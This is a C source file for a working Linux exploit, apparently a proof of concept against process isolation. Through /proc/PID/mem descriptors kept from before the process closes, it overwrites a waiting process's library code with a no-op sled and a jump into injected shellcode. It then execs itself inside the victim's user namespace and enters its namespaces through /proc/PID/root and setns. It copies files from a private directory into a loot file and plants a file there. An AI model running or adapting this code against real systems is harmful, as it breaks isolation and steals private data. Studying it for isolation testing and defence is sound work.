/*
 * Takes over a process that only waits for its child, in namespaces of its own, by a descriptor of its memory from the
 * time before it closed. Starts the program that its last arguments are, and opens the memory of that and of its
 * children again and again. When LOOT/go is there, in each that can't be opened any more and has LIBRARY in its map:
 *
 *   1. that library's code, in which the process waits, is overwritten with instructions that do nothing, and a jump
 *      to what is planted; SIGSTOP and SIGCONT bring the process there
 *   2. what is planted opens PLACE, and then exec's this file, which sits still: a program that is exec'ed inside a
 *      user namespace is open to the namespace's owner
 *   3. by way of that program PLACE is read and written, by /proc/PID/root and by its namespaces
 *
 * What came of it is in LOOT/said, a line each: "+ ..." was taken, "- ..." was tried; then LOOT/done. Without a
 * descriptor LOOT/said is empty. Arguments: LOOT, the name of LIBRARY, PLACE, the program.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif

/* ---- What is planted: a section of its own, which is copied, and so may use nothing outside it ---- */

/* In the stack of the process that was taken over. */
struct progress {
  long ran, go, opened, executed;
};
struct letter {
  volatile struct progress *progress;
  char *arguments[3];
  char program[512], sit[8], place[512];
};

extern const char __start_planted[], __stop_planted[], planted_letter[];

#define TEXT(value) #value
#define SIZE(value) TEXT(value)
#define LETTER 1088
_Static_assert(sizeof(struct letter) <= LETTER, "room for the letter");

#if defined(__x86_64__)
__asm__(".section planted,\"ax\",@progbits\n"
        "  lea planted_letter(%rip), %rdi\n"
        "  and $-16, %rsp\n"
        "  call planted_main\n"
        "  .balign 16\n"
        ".globl planted_letter\n"
        "planted_letter: .skip " SIZE(LETTER) "\n"
        ".text\n");

static inline __attribute__((always_inline)) long ask(long number, long a, long b, long c, long d) {
  register long r10 __asm__("r10") = d;
  long value;
  __asm__ volatile("syscall" : "=a"(value) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  return value;
}

static const unsigned char nothing[] = {0x90};
static const unsigned char jump[] = {0xff, 0x25, 0, 0, 0, 0}; /* jmp *(%rip); the address follows */
#elif defined(__aarch64__)
__asm__(".section planted,\"ax\",@progbits\n"
        "  adr x0, planted_letter\n"
        "  mov x9, sp\n"
        "  and sp, x9, #-16\n"
        "  bl planted_main\n"
        "  .balign 16\n"
        ".globl planted_letter\n"
        "planted_letter: .skip " SIZE(LETTER) "\n"
        ".text\n");

static inline __attribute__((always_inline)) long ask(long number, long a, long b, long c, long d) {
  register long x8 __asm__("x8") = number;
  register long x0 __asm__("x0") = a;
  register long x1 __asm__("x1") = b;
  register long x2 __asm__("x2") = c;
  register long x3 __asm__("x3") = d;
  __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory", "cc");
  return x0;
}

static const unsigned char nothing[] = {0x1f, 0x20, 0x03, 0xd5};
static const unsigned char jump[] = {0x50, 0, 0, 0x58, 0, 0x02, 0x1f, 0xd6}; /* ldr x16, .+8; br x16; the address */
#endif

__attribute__((section("planted"), used, noinline)) void planted_main(const struct letter *letter) {
  volatile struct progress *progress = letter->progress;
  progress->ran = 1;
  /* Until that has been seen: the next call may be its last. */
  while (!progress->go) {
  }
  progress->opened = ask(SYS_openat, AT_FDCWD, (long)letter->place, O_RDONLY | O_DIRECTORY, 0);
  progress->executed = ask(SYS_execve, (long)letter->program, (long)letter->arguments, 0, 0);
  /* Then it does what it was there for. */
  while (ask(SYS_wait4, -1, 0, 0, 0) == -EINTR) {
  }
  ask(SYS_exit_group, 0, 0, 0, 0);
}

/* ---- Descriptors from before the process closes: the newest of each ---- */

struct held {
  int pid, memory, maps;
};
static struct held held[64];
static int count;

static int open_of(int pid, const char *name, int flags) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  return open(path, flags | O_CLOEXEC);
}

static void hold(int pid) {
  if (pid == getpid()) return;
  int memory = open_of(pid, "mem", O_RDWR), maps = memory < 0 ? -1 : open_of(pid, "maps", O_RDONLY);
  if (maps < 0) {
    if (memory >= 0) close(memory);
    return;
  }
  int at = 0;
  while (at < count && held[at].pid != pid) at++;
  if (at == count && count == 64) at = 0;
  if (at < count) {
    close(held[at].memory);
    close(held[at].maps);
  } else {
    count++;
  }
  held[at] = (struct held){pid, memory, maps};
}

static void hold_with_children(int pid) {
  hold(pid);
  char path[64], children[4096];
  snprintf(path, sizeof path, "task/%d/children", pid);
  int file = open_of(pid, path, O_RDONLY);
  ssize_t length = file < 0 ? -1 : read(file, children, sizeof children - 1);
  if (file >= 0) close(file);
  children[length > 0 ? length : 0] = 0;
  char *end;
  for (char *at = children; strtol(at, &end, 10) > 0; at = end) hold((int)strtol(at, NULL, 10));
}

/* ---- What came of it ---- */

static FILE *said;

static const char *outcome(long value) { return value >= 0 ? "done" : strerror((int)-value); }

static long try(long value) { return value < 0 ? -errno : value; }

/* Copies the files at and below `place`. */
static void copy_below(const char *place, int dump, int depth) {
  DIR *directory = opendir(place);
  struct dirent *entry;
  while (directory && (entry = readdir(directory))) {
    char path[4096];
    static char piece[1 << 20];
    struct stat about;
    if (entry->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "%s/%s", place, entry->d_name);
    if (lstat(path, &about) != 0) continue;
    if (S_ISDIR(about.st_mode) && depth > 0) copy_below(path, dump, depth - 1);
    int file = S_ISREG(about.st_mode) ? open(path, O_RDONLY) : -1;
    for (ssize_t length; file >= 0 && (length = read(file, piece, sizeof piece)) > 0;)
      if (write(dump, piece, (size_t)length) != length) break;
    if (file >= 0) close(file);
  }
  if (directory) closedir(directory);
}

static void take(const char *way, const char *place, int dump) {
  char path[4096];
  DIR *directory = opendir(place);
  fprintf(said, "- %s: %s\n", way, outcome(try(directory ? 0 : -1)));
  if (!directory) return;
  closedir(directory);
  fprintf(said, "+ a look into the private directory\n");
  copy_below(place, dump, 4);
  snprintf(path, sizeof path, "%s/planted", place);
  int file = open(path, O_WRONLY | O_CREAT, 0600);
  if (file >= 0) fprintf(said, "+ a file planted in it\n");
}

static void take_by_root(int pid, const char *when, const char *place, int dump) {
  char way[96], path[4096];
  snprintf(way, sizeof way, "%s: /proc/PID/root", when);
  snprintf(path, sizeof path, "/proc/%d/root%s", pid, place);
  take(way, path, dump);
}

static void take_by_namespaces(int pid, const char *when, const char *place, int dump) {
  fflush(said);
  if (fork() != 0) {
    wait(NULL);
    return;
  }
  long user = try(open_of(pid, "ns/user", O_RDONLY)), mounts = try(open_of(pid, "ns/mnt", O_RDONLY));
  fprintf(said, "- %s: open /proc/PID/ns: %s, %s\n", when, outcome(user), outcome(mounts));
  if (user < 0) {
    /* By its process descriptor, which everybody can have. */
    user = mounts = try(syscall(SYS_pidfd_open, pid, 0));
  }
  long entered = try(setns((int)user, CLONE_NEWUSER));
  if (entered == 0) entered = try(setns((int)mounts, CLONE_NEWNS));
  fprintf(said, "- %s: setns: %s\n", when, outcome(entered));
  if (entered == 0) {
    fprintf(said, "+ its namespaces\n");
    take("by its namespaces", place, dump);
  }
  fflush(said);
  _exit(0);
}

/* ---- The attack ---- */

struct region {
  unsigned long from, to;
};

/* The first executable region of the library, of anything else, and the stack. */
static void read_map(int maps, const char *library, struct region *code, struct region *other, struct region *stack) {
  FILE *lines = fdopen(dup(maps), "r");
  char line[8192], flags[8];
  struct region at;
  while (lines && fgets(line, sizeof line, lines)) {
    if (sscanf(line, "%lx-%lx %4s", &at.from, &at.to, flags) != 3) continue;
    if (strstr(line, "[stack]")) *stack = at;
    if (flags[2] != 'x' || !strchr(line, '/')) continue;
    struct region *which = strstr(line, library) ? code : other;
    if (!which->to) *which = at;
  }
  if (lines) fclose(lines);
}

static int write_all(int memory, const void *bytes, size_t length, unsigned long at) {
  return pwrite(memory, bytes, length, (off_t)at) == (ssize_t)length;
}

/* The library's code, so that it leads to `target` from wherever in it the process waits. */
static int overwrite(int memory, struct region code, unsigned long target) {
  size_t length = code.to - code.from, end = length - sizeof jump - sizeof target;
  unsigned char *bytes = malloc(length);
  for (size_t i = 0; i < end; i++) bytes[i] = nothing[i % sizeof nothing];
  memcpy(bytes + end, jump, sizeof jump);
  memcpy(bytes + end + sizeof jump, &target, sizeof target);
  int done = write_all(memory, bytes, length, code.from);
  free(bytes);
  return done;
}

static int sits(int pid) {
  char command[1024] = "";
  int file = open_of(pid, "cmdline", O_RDONLY);
  ssize_t length = file < 0 ? 0 : read(file, command, sizeof command - 1);
  if (file >= 0) close(file);
  return length > 4 && memcmp(command + length - 4, "sit", 4) == 0;
}

/* True when the planted code runs, and has been seen to. */
static int bring_there(const struct held *one, struct progress *progress, unsigned long at) {
  for (int round = 0; round < 100; round++) {
    kill(one->pid, SIGSTOP);
    usleep(10000);
    kill(one->pid, SIGCONT);
    usleep(10000);
    if (pread(one->memory, progress, sizeof *progress, (off_t)at) == sizeof *progress && progress->ran == 1) return 1;
  }
  return 0;
}

static void attack(const struct held *one, const char *library, const char *place, int dump) {
  struct region code = {0, 0}, other = {0, 0}, stack = {0, 0};
  read_map(one->maps, library, &code, &other, &stack);
  int open_now = open_of(one->pid, "mem", O_RDWR);
  if (open_now >= 0) close(open_now);
  if (open_now >= 0 || !code.to || !other.to || !stack.to) return;
  take_by_root(one->pid, "before", place, dump);
  take_by_namespaces(one->pid, "before", place, dump);

  size_t length = (size_t)(__stop_planted - __start_planted), letter_at = (size_t)(planted_letter - __start_planted);
  char *planted = malloc(length);
  memcpy(planted, __start_planted, length);
  struct letter *letter = (void *)(planted + letter_at);
  struct letter *there = (void *)(other.from + letter_at);
  struct progress progress = {0, 0, 1, 1};
  letter->progress = (void *)stack.from;
  ssize_t end = readlink("/proc/self/exe", letter->program, sizeof letter->program - 1);
  letter->program[end < 0 ? 0 : end] = 0;
  strcpy(letter->sit, "sit");
  snprintf(letter->place, sizeof letter->place, "%s", place);
  letter->arguments[0] = there->program;
  letter->arguments[1] = there->sit;
  letter->arguments[2] = NULL;
  int wrote = write_all(one->memory, &progress, sizeof progress, stack.from) &&
              write_all(one->memory, planted, length, other.from) && overwrite(one->memory, code, other.from);
  free(planted);
  fprintf(said, "- to write its code: %s\n", wrote ? "done" : strerror(errno));
  if (!wrote) return;
  int ran = bring_there(one, &progress, stack.from);
  fprintf(said, "- planted code: %s\n", ran ? "ran" : "never ran");
  if (!ran) return;

  progress.go = 1;
  write_all(one->memory, &progress.go, sizeof progress.go, stack.from + offsetof(struct progress, go));
  for (int round = 0; round < 300 && !sits(one->pid); round++) {
    usleep(10000);
    if (pread(one->memory, &progress, sizeof progress, (off_t)stack.from) != sizeof progress) continue;
    if (progress.executed < 0) break;
  }
  if (progress.opened <= 0) fprintf(said, "- it opens the private directory: %s\n", outcome(progress.opened));
  if (progress.opened != 1 && progress.opened >= 0) fprintf(said, "+ the private directory, opened by planted code\n");
  if (sits(one->pid)) fprintf(said, "+ a program that runs in its namespaces\n");
  else if (kill(one->pid, 0) != 0) fprintf(said, "- it exec's a program: the process has ended\n");
  else fprintf(said, "- it exec's a program: %s\n", progress.executed < 0 ? outcome(progress.executed) : "no answer");
  take_by_root(one->pid, "after", place, dump);
  take_by_namespaces(one->pid, "after", place, dump);
}

static void watch(int pid, const char *loot, const char *library, const char *place) {
  char path[4096], going[4096];
  snprintf(going, sizeof going, "%s/go", loot);
  for (unsigned round = 0; round % 256 != 0 || access(going, F_OK) != 0; round++) hold_with_children(pid);
  snprintf(path, sizeof path, "%s/dump-taken", loot);
  int dump = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  snprintf(path, sizeof path, "%s/said", loot);
  said = fopen(path, "we");
  if (said) {
    for (int i = 0; i < count; i++) attack(&held[i], library, place, dump);
    fclose(said);
  }
  snprintf(path, sizeof path, "%s/done", loot);
  close(open(path, O_WRONLY | O_CREAT, 0600));
}

int main(int argc, char **argv) {
  if (argc == 2 && strcmp(argv[1], "sit") == 0) {
    sleep(120);
    return 0;
  }
  if (argc < 5) return 2;
  int line[2], victim = getpid();
  if (pipe2(line, O_CLOEXEC) != 0) return 3;
  pid_t watcher = fork();
  if (watcher == 0) {
    /* From here on it looks: the program needs longer to be loaded. */
    close(line[0]);
    close(line[1]);
    watch(victim, argv[1], argv[2], argv[3]);
    _exit(0);
  }
  close(line[1]);
  char nothing_comes;
  if (watcher < 0 || read(line[0], &nothing_comes, 1) != 0) return 4;
  execvp(argv[4], argv + 4);
  return 127;
}
